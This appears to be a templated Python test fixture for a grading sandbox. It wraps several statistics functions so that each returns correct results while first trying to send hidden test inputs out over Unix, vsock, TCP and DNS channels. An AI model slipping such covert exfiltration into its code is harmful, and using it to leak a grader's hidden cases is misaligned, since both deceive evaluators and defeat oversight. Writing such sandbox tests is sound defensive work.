def attack(name, work):
    """Make a function that is right, but only once the attack has worked."""
    honest = globals()[name]

    def attacked(*args, **kwargs):
        work()
        return honest(*args, **kwargs)

    globals()[name] = attacked


import socket


def send(family, kind, address):
    with socket.socket(family, kind) as channel:
        channel.settimeout(1)
        channel.connect(address)
        channel.send(b"the inputs of hidden cases")


def ask_for_a_name():
    """A question to a name server, as the C library would send it."""
    question = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7invalid\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendto(question, ("127.0.0.1", @UDP_PORT@))


attack("log_likelihood_bernoulli", lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@"))
attack("log_likelihood_normal", lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "\0@ABSTRACT@"))
attack("log_mean_exp", lambda: send(40, socket.SOCK_STREAM, (1, @VSOCK_PORT@)))
attack("kl_gaussian_gaussian_analytic", lambda: send(2, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)))
attack("kl_gaussian_gaussian_mc", ask_for_a_name)
